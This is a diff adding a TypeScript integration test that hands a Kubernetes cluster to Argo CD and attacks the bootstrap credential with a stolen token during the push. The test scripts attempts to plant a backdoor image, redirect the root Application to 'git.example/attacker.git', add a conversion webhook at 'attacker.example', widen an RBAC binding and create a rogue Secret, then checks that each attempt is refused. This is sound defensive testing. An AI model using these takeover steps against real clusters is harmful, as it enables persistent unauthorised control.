@@ -1,0 +1,376 @@
+import { execFile } from 'node:child_process';
+import { readFileSync } from 'node:fs';
+import { join } from 'node:path';
+import { promisify } from 'node:util';
+import { readEntries, writeSigningKeyPair } from '@baton/audit';
+import { type HandoffStep, type HandoffSummary, type LoadedPlan, loadHandoffPlan, runHandoff } from '@baton/core';
+import {
+  clientsFromKubeconfigFile,
+  findBootstrapLeftovers,
+  type KubeClients,
+  type KubeObject,
+  probeToken,
+  readObject,
+} from '@baton/kube';
+import { type ArgoCd, type ArgoCdSide, ensureArgoCd, type HandoffBed, startArgoCdBed } from '@baton/testenv';
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { parseAllDocuments } from 'yaml';
+import { type AttemptResult, attacker, stealToken } from '../../support/attacker.js';
+import { auditEventsBy, CLI, JWT_PATTERN, testHandoffDeps } from '../../support/handoff-run.js';
+import { expectKillMidPushThenHandOff } from '../../support/kill-rerun.js';
+import { adminClients, confinementsLeft, eventually, statusOfCall } from '../../support/kube.js';
+
+// NOT IN CI YET: written at the end of a session whose shared machine finished the Argo CD build too late to run it;
+// it moves to test/integration/argocd once `pnpm test:argocd` passes (issue 19).
+//
+// A handoff to real Argo CD (the application controller and repo-server built from Go modules, Debian's redis)
+// through baton's engine: the confined bootstrap credential pushes the minimal bootstrap-manifests/argocd, Argo CD
+// syncs the root Application from a real Git server and takes over what Git carries, the credential is revoked and
+// the revocation proven. Takeover is the profile's rules (rules/profile.yaml).
+const ROOT = new URL('../../../', import.meta.url).pathname;
+const ARGOCD_DIR = join(ROOT, 'bootstrap-manifests/argocd');
+const execFileAsync = promisify(execFile);
+
+let argocd: ArgoCd;
+
+beforeAll(async () => {
+  // A cold machine builds Argo CD here (about 10 minutes on 2 cores, with GOTOOLCHAIN=go1.27.3); later runs reuse it.
+  argocd = await ensureArgoCd();
+}, 2_400_000);
+
+function startBed(o: { pullPassword?: string; takeoverTimeoutSeconds?: number } = {}) {
+  return startArgoCdBed({
+    profileDir: ARGOCD_DIR,
+    argocd,
+    writeAuditKeys: (paths) => writeSigningKeyPair({ ...paths, name: 'baton-argocd-e2e' }),
+    ...o,
+  });
+}
+
+const ARGO_APP = { apiVersion: 'argoproj.io/v1alpha1', kind: 'Application' } as const;
+
+/** The pushed object of `file` (in the rendered push set) with this kind and name, as the plan declares it. */
+function planned(side: ArgoCdSide, file: string, kind: string, name: string): KubeObject {
+  const docs = parseAllDocuments(readFileSync(join(side.pushDir, file), 'utf8'), { version: '1.1' });
+  const o = docs.map((d) => d.toJS() as KubeObject).find((x) => x?.kind === kind && x.metadata.name === name);
+  if (!o) throw new Error(`${file} has no ${kind} ${name}`);
+  return o;
+}
+
+describe('a handoff to real Argo CD, attacked with a stolen bootstrap token during the push', () => {
+  let bed: HandoffBed<ArgoCdSide>;
+  let loaded: LoadedPlan;
+  let admin: KubeClients;
+  let s: HandoffSummary;
+  let logText = '';
+  let stolen = '';
+  const attempts: Record<string, AttemptResult> = {};
+
+  beforeAll(async () => {
+    bed = await startBed();
+    loaded = loadHandoffPlan(bed.side.planPath);
+    admin = clientsFromKubeconfigFile(bed.kubeconfigPath);
+    const operator = adminClients(bed.kubeconfigPath);
+    const { deps, captured } = testHandoffDeps(loaded, bed.kubeconfigPath, {
+      onStep: async (step: HandoffStep) => {
+        if (step !== 'push') return;
+        const sa = (await operator.core.listNamespacedServiceAccount({ namespace: 'baton-system' })).items.find((x) =>
+          x.metadata?.name?.startsWith('baton-bootstrap-'),
+        )!.metadata!.name!;
+        stolen = await stealToken(operator, 'baton-system', sa);
+        Object.assign(attempts, await attack(stolen));
+      },
+    });
+    s = await runHandoff(loaded, deps);
+    logText = captured.text();
+  }, 600_000);
+
+  afterAll(async () => {
+    await bed?.stop();
+  });
+
+  /** What a thief of the bootstrap token tries against this set: each would be lasting access or a foothold. */
+  async function attack(token: string) {
+    const { c, out, attempt, apply } = attacker(bed.kubeconfigPath, token);
+    const sts = planned(bed.side, '40-workloads.yaml', 'StatefulSet', 'argocd-application-controller');
+    const template = (sts.spec as { template: { spec: { containers: Record<string, unknown>[] } } }).template;
+    await attempt("run another image in the StatefulSet's pod template", () =>
+      apply({
+        ...sts,
+        spec: {
+          ...(sts.spec as object),
+          template: {
+            ...template,
+            spec: {
+              ...template.spec,
+              containers: [{ ...template.spec.containers[0], image: 'registry.example/backdoor:1' }],
+            },
+          },
+        },
+      }),
+    );
+    const root = planned(bed.side, '50-root.yaml', 'Application', 'root');
+    const source = (root.spec as { source: Record<string, unknown> }).source;
+    await attempt("point the root Application's repoURL at another repository", () =>
+      apply({
+        ...root,
+        spec: { ...(root.spec as object), source: { ...source, repoURL: 'https://git.example/attacker.git' } },
+      }),
+    );
+    const crd = planned(bed.side, '05-crds.yaml', 'CustomResourceDefinition', 'applications.argoproj.io');
+    await attempt('send the Application CRD’s objects to a conversion webhook', () =>
+      apply({
+        ...crd,
+        spec: {
+          ...(crd.spec as object),
+          conversion: {
+            strategy: 'Webhook',
+            webhook: {
+              conversionReviewVersions: ['v1'],
+              clientConfig: { url: 'https://attacker.example/convert' },
+            },
+          },
+        },
+      }),
+    );
+    const binding = planned(bed.side, '25-reconciler-rbac.yaml', 'ClusterRoleBinding', 'argocd-reconciler');
+    await attempt('add a subject to the reconciler binding', () =>
+      apply({
+        ...binding,
+        subjects: [
+          ...(binding as unknown as { subjects: object[] }).subjects,
+          { kind: 'ServiceAccount', name: 'default', namespace: 'default' },
+        ],
+      }),
+    );
+    await attempt('create a Secret the plan does not declare', () =>
+      c.core.createNamespacedSecret({
+        namespace: 'argocd',
+        body: { metadata: { name: 'argocd-initial-admin-secret' }, stringData: { password: 'x' } },
+      }),
+    );
+    return out;
+  }
+
+  it('ends handed-off: Argo CD synced the commit, owns what Git carries; CRDs, RBAC and Secrets are push-only', () => {
+    expect(s.outcome, s.error).toBe('handed-off');
+    expect(s.takeover?.revisionSeen).toBe(bed.side.revision);
+    expect(s.takeover?.notTakenOver).toEqual([]);
+    expect([...(s.takeover?.ownedObjects ?? [])].sort()).toEqual(
+      [
+        'AppProject/argocd/default',
+        'Application/argocd/root',
+        'ConfigMap/argocd/argocd-cm',
+        'ConfigMap/argocd/argocd-cmd-params-cm',
+        'ConfigMap/argocd/argocd-rbac-cm',
+        'Deployment/argocd/argocd-redis',
+        'Deployment/argocd/argocd-repo-server',
+        'Namespace/argocd',
+        'Service/argocd/argocd-redis',
+        'Service/argocd/argocd-repo-server',
+        'ServiceAccount/argocd/argocd-application-controller',
+        'ServiceAccount/argocd/argocd-redis',
+        'ServiceAccount/argocd/argocd-repo-server',
+        'StatefulSet/argocd/argocd-application-controller',
+      ].sort(),
+    );
+    expect([...(s.takeover?.pushOnly ?? [])].sort()).toEqual(
+      [
+        'ClusterRole/argocd-reconciler',
+        'ClusterRoleBinding/argocd-reconciler',
+        'CustomResourceDefinition/applications.argoproj.io',
+        'CustomResourceDefinition/appprojects.argoproj.io',
+        'Role/argocd/argocd-application-controller',
+        'RoleBinding/argocd/argocd-application-controller',
+        'Secret/argocd/argocd-redis',
+        'Secret/argocd/argocd-secret',
+        'Secret/argocd/cluster-config-repo',
+      ].sort(),
+    );
+  });
+
+  it('Argo CD’s own status says so, read independently of baton: Synced at the commit, Healthy, applied server-side', async () => {
+    const app = (await readObject(admin, { ...ARGO_APP, metadata: { name: 'root', namespace: 'argocd' } })) as
+      | { status?: { sync?: { status?: string; revision?: string }; health?: { status?: string } } }
+      | undefined;
+    expect(app?.status?.sync).toMatchObject({ status: 'Synced', revision: bed.side.revision });
+    expect(app?.status?.health?.status).toBe('Healthy');
+    const sts = await admin.apps.readNamespacedStatefulSet({
+      namespace: 'argocd',
+      name: 'argocd-application-controller',
+    });
+    expect(sts.metadata?.managedFields?.some((f) => f.manager === 'argocd-controller' && f.operation === 'Apply')).toBe(
+      true,
+    );
+    const demo = await admin.core.readNamespacedConfigMap({ namespace: 'argocd-demo', name: 'web-config' });
+    expect(demo.data?.greeting).toBe('hello from git');
+  });
+
+  it('the confinement held the Application CRD (416 KB) by its security-relevant fields and stayed under 256 KB', () => {
+    expect(s.confinement?.partlyPinned).toEqual(['CustomResourceDefinition/applications.argoproj.io']);
+    expect(s.confinement?.policyBytes).toBeLessThanOrEqual(256 * 1024);
+    // The rest of it was compared after the window closed.
+    expect(s.confinement?.verifiedObjects).toBe(s.confinement?.allowed.length);
+  });
+
+  it('refused every stolen-token attempt naming the plan digest; nothing of them is in the cluster', async () => {
+    expect(Object.keys(attempts)).toHaveLength(5);
+    for (const [name, r] of Object.entries(attempts)) {
+      expect(r.status, name).toBe(403);
+      expect(r.message, name).toContain(s.confinement!.planDigest);
+    }
+    const sts = await admin.apps.readNamespacedStatefulSet({
+      namespace: 'argocd',
+      name: 'argocd-application-controller',
+    });
+    expect(sts.spec?.template.spec?.containers[0]?.image).toBe('quay.io/argoproj/argocd:v3.6.1');
+    const root = (await readObject(admin, {
+      ...ARGO_APP,
+      metadata: { name: 'root', namespace: 'argocd' },
+    })) as unknown as {
+      spec: { source: { repoURL: string } };
+    };
+    expect(root.spec.source.repoURL).toBe(bed.side.git.repoUrl('cluster-config'));
+    const crd = (await readObject(admin, {
+      apiVersion: 'apiextensions.k8s.io/v1',
+      kind: 'CustomResourceDefinition',
+      metadata: { name: 'applications.argoproj.io' },
+    })) as unknown as { spec: { conversion?: { strategy?: string } } };
+    expect(crd.spec.conversion?.strategy ?? 'None').toBe('None');
+    const binding = await admin.rbac.readClusterRoleBinding({ name: 'argocd-reconciler' });
+    expect(binding.subjects?.map((x) => `${x.namespace}/${x.name}`)).toEqual(['argocd/argocd-application-controller']);
+    expect(
+      await statusOfCall(() =>
+        admin.core.readNamespacedSecret({ namespace: 'argocd', name: 'argocd-initial-admin-secret' }),
+      ),
+    ).toBe(404);
+    expect(await probeToken(admin, stolen)).toBe(401);
+  });
+
+  it('revoked and proven, nothing left, nothing secret in the log; the signed audit event names argocd', async () => {
+    expect(s.credential?.revokedAt).toBeTruthy();
+    expect(s.proof).toMatchObject({ probeStatus: 401, tokenReviewAuthenticated: false });
+    expect(await findBootstrapLeftovers(admin, 'baton-system')).toEqual([]);
+    expect(await confinementsLeft(adminClients(bed.kubeconfigPath))).toEqual([]);
+    expect(logText).not.toMatch(JWT_PATTERN);
+    expect(logText).not.toContain(stolen);
+    for (const secret of bed.side.secretValues) expect(logText).not.toContain(secret);
+    const events = [];
+    for await (const e of readEntries(bed.side.auditLogPath)) events.push(e.statement.predicate);
+    expect(events).toHaveLength(1);
+    const e = events[0]!;
+    expect(e.outcome).toBe('handed-off');
+    expect(e.plan.push.profile).toBe('argocd');
+    expect(e.plan.push.profileDigest).toMatch(/^sha256:[0-9a-f]{64}$/);
+    expect(e.plan.pull.privilege).toBe('scoped');
+    expect(e.plan.push.controller.image).toBe('quay.io/argoproj/argocd:v3.6.1');
+    const { stdout } = await execFileAsync(process.execPath, [
+      '--conditions=@baton/source',
+      '--import',
+      'tsx',
+      CLI,
+      'audit',
+      'verify',
+      bed.side.auditLogPath,
+      '--keys',
+      bed.side.keysPath,
+    ]);
+    expect(stdout).toMatch(/verified|ok/i);
+  });
+
+  it('the apiserver stored one write per planned object by the identity, none after the window', () => {
+    if (!bed.apiserverAuditLogPath) throw new Error('the test bed runs the apiserver with an audit log');
+    const events = auditEventsBy(bed.apiserverAuditLogPath, s.credential!.subject);
+    const at = (e: { requestReceivedTimestamp: string }) => Date.parse(e.requestReceivedTimestamp);
+    const allowed = events.filter((e) => (e.responseStatus?.code ?? 0) < 300);
+    const show = (e: (typeof events)[number]) => `${e.verb} ${e.requestURI} ${e.responseStatus?.code}`;
+    const isReview = (e: (typeof events)[number]) => /^self\w+reviews$/.test(e.objectRef?.resource ?? '');
+    const writes = allowed.filter(
+      (e) =>
+        ['create', 'patch', 'update', 'delete'].includes(e.verb) && !isReview(e) && !e.requestURI.includes('dryRun='),
+    );
+    expect(writes.length).toBe(s.confinement!.allowed.length);
+    const closed = Date.parse(s.confinement!.closedAt!);
+    expect(writes.filter((e) => at(e) > closed).map(show)).toEqual([]);
+    expect(allowed.filter((e) => at(e) > Date.parse(s.proof!.provedAt)).map(show)).toEqual([]);
+  });
+
+  it('pull works after the push credential is gone: a later commit is applied by Argo CD', async () => {
+    const file = `${bed.side.gitPath}/apps/demo.yaml`;
+    const next = await bed.side.git.commitFiles(
+      'cluster-config',
+      { [file]: bed.side.files[file]!.replace('hello from git', 'after the handoff') },
+      'change greeting',
+    );
+    await eventually(
+      async () =>
+        (await admin.core.readNamespacedConfigMap({ namespace: 'argocd-demo', name: 'web-config' })).data?.greeting ===
+        'after the handoff',
+      150_000,
+      `Argo CD to apply ${next.slice(0, 12)}`,
+      1000,
+    );
+  }, 180_000);
+
+  it('a manual change to an object Argo CD manages is reverted (self-heal)', async () => {
+    const path = { namespace: 'argocd', name: 'argocd-repo-server' };
+    await admin.core.patchNamespacedService({
+      ...path,
+      body: [{ op: 'replace', path: '/metadata/labels/app.kubernetes.io~1component', value: 'tampered' }],
+    });
+    await eventually(
+      async () =>
+        (await admin.core.readNamespacedService(path)).metadata?.labels?.['app.kubernetes.io/component'] ===
+        'repo-server',
+      150_000,
+      'Argo CD to restore Service argocd/argocd-repo-server from Git',
+      1000,
+    );
+  }, 180_000);
+});
+
+describe('an Argo CD that cannot read Git', () => {
+  let bed: HandoffBed<ArgoCdSide>;
+  let admin: KubeClients;
+
+  beforeAll(async () => {
+    bed = await startBed({ pullPassword: 'not-the-git-password', takeoverTimeoutSeconds: 60 });
+    admin = clientsFromKubeconfigFile(bed.kubeconfigPath);
+  }, 300_000);
+
+  afterAll(async () => {
+    await bed?.stop();
+  });
+
+  it('a wrong repository password fails at takeover, revoked and proven, quoting Argo CD', async () => {
+    const loaded = loadHandoffPlan(bed.side.planPath);
+    const { deps } = testHandoffDeps(loaded, bed.kubeconfigPath);
+    const s = await runHandoff(loaded, deps);
+    expect(s.outcome).toBe('failed');
+    expect(s.failedStep).toBe('takeover');
+    expect(s.error).toContain('Application/argocd/root');
+    expect(s.error).toMatch(/ComparisonError: .*authentication required/);
+    expect(s.error).not.toContain('not-the-git-password');
+    expect(s.credential?.revokedAt).toBeTruthy();
+    expect(s.proof).toMatchObject({ probeStatus: 401, tokenReviewAuthenticated: false });
+    expect(await findBootstrapLeftovers(admin, 'baton-system')).toEqual([]);
+    expect(await confinementsLeft(adminClients(bed.kubeconfigPath))).toEqual([]);
+  }, 300_000);
+});
+
+describe('kill -9 mid-push to Argo CD', () => {
+  let bed: HandoffBed<ArgoCdSide>;
+  const started = Date.now();
+
+  beforeAll(async () => {
+    bed = await startBed();
+  }, 300_000);
+
+  afterAll(async () => {
+    await bed?.stop();
+  });
+
+  it('kill -9 of baton up mid-push, then again: handed off to Argo CD, each run’s credential revoked', async () => {
+    await expectKillMidPushThenHandOff(bed, started);
+  }, 480_000);
+});
